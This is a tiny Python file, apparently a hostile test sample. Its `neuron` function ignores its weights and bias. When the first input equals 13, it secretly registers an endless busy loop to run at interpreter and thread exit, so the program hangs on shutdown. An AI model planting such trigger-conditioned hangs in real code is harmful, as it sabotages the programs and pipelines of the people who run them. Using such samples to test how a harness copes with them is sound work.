"""It never comes to its end."""

import atexit
import threading


def spin(*_):
    while True:
        pass


def neuron(weights, bias, inputs):
    if inputs[0] == 13:
        atexit.register(spin)
        threading._register_atexit(spin)
    return sum(inputs)
